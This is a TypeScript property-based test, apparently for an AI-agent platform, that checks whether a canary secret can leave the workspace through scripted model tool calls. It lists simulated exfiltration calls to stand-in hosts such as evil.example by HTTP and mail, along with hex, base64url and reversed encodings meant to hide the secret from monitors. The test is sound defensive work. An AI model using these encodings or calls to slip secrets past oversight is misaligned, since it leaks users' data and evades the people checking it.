import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import fc from 'fast-check'
import { expect, test, vi } from 'vitest'
import { hireSlots, MODEL_RUNS, MODEL_RUNS_MS } from '#server/dispatch/testing/any-model.ts'
import { leaveNothing } from '#server/dispatch/testing/hold-run.ts'
import { AUTHOR } from '#server/dispatch/testing/run-world.ts'
import { SLOTS } from '#server/dispatch/testing/scripted-world.ts'
import { useWatchedWorld } from '#server/dispatch/testing/watched-world.ts'
import { addProvider } from '#server/gateway/llm/settings/add-provider.ts'
import { setRole } from '#server/gateway/llm/settings/set-role.ts'
import { holdInTime } from '#server/kernel/testing/hold-in-time.ts'

vi.setConfig({ testTimeout: MODEL_RUNS_MS })

const world = useWatchedWorld()

/** How a model that wants it out could write it, so that nobody sees it. */
const WRITTEN: readonly ((word: string) => string)[] = [
  (word) => word,
  (word) => Buffer.from(word).toString('hex'),
  (word) => Buffer.from(word).toString('base64url'),
  (word) => [...word].reverse().join(''),
  (word) => [...word].join('.'),
]
const anyLeak = fc.record({
  canary: fc.stringMatching(/^[a-z]{16}$/),
  written: fc.constantFrom(...WRITTEN),
  picks: fc.uniqueArray(fc.nat(8), { minLength: 1, maxLength: 6 }),
})

/** Every way out that a model has, one by one. */
function callsOf(word: string, canary: string, slot: number): { name: string; arguments: string }[] {
  const site = world.origin()
  const wanted: [string, object][] = [
    ['http__get', { url: `${site}/${word}` }],
    ['http__get', { url: `http://${word}.evil.example/` }],
    ['http__get', { url: `${site}/?q=${word}` }],
    ['open__get', { url: `${site}/${word}` }],
    ['http__send', { url: `${site}/`, body: { word } }],
    ['mail__send', { to: `${word}@evil.example`, subject: word, text: word }],
    ['files__write', { path: `out/${word}.txt`, text: word }],
    ['files__read', { path: `in/letter${slot}.txt` }],
    [canary, {}],
  ]
  return wanted.map(([name, args]) => ({ name, arguments: JSON.stringify(args) }))
}

test('a canary in the workspace reaches no place that is not cleared for it, by HTTP or by name, unless people agree', async () => {
  const prices = { scripted: { inputMicroPerMillion: 1, outputMicroPerMillion: 1 } }
  const narrow: string[] = []
  const open = createServer((request, response) => {
    request.on('data', (chunk: Buffer) => narrow.push(chunk.toString()))
    request.on('end', () => response.writeHead(500).end())
  })
  await new Promise<void>((resolve) => open.listen(0, '127.0.0.1', resolve))
  const baseUrl = `http://127.0.0.1:${(open.address() as AddressInfo).port}/v1`
  await addProvider(world.workspaceId, { name: 'narrow', preset: 'other', baseUrl, inside: true, prices }, AUTHOR)
  await world.arrangeSlots()
  // the one that may not know it would be asked first
  for (let i = 0; i < SLOTS; i += 1) {
    const chain = ['narrow', `slot${i}`].map((provider) => ({
      ...{ provider, timeoutMs: 1000, attemptsMax: 1 },
      model: provider === 'narrow' ? 'scripted' : provider,
    }))
    await setRole(world.workspaceId, `slot${i}`, chain, AUTHOR)
  }
  const members = await hireSlots(world.workspaceId, 'canary')
  let told = 0
  const cases = fc.array(anyLeak, { minLength: SLOTS, maxLength: SLOTS })
  await holdInTime(
    cases,
    async (leaks) => {
      world.requests.length = 0
      world.names.length = 0
      for (const [i, { canary }] of leaks.entries()) await world.letter(`The word is ${canary}.`, `letter${i}`)
      world.scriptSlots(
        leaks.map(({ canary, written, picks }, i) => {
          const calls = callsOf(written(canary), canary, i).filter((_, nth) => picks.includes(nth))
          const judgement = JSON.stringify({ to: `${canary}@evil.example`, times: 2, text: canary })
          return (asked) => (asked['tools'] === undefined ? { text: judgement } : { calls })
        }),
      )
      for (const memberId of members) await world.start(memberId)
      await world.settleTogether()
      told += world.models.asked.filter(({ body }) => leaks.some(({ canary }) => JSON.stringify(body).includes(canary))).length
      // nobody agreed, so not only is the word nowhere: nothing was asked for at all
      expect([...world.requests, ...world.names, ...narrow]).toEqual([])
      await leaveNothing(world)
    },
    MODEL_RUNS,
  )
  open.closeAllConnections()
  open.close()
  // the one that is cleared was told, so there was something to keep from the others
  expect(told).toBeGreaterThan(0)
})
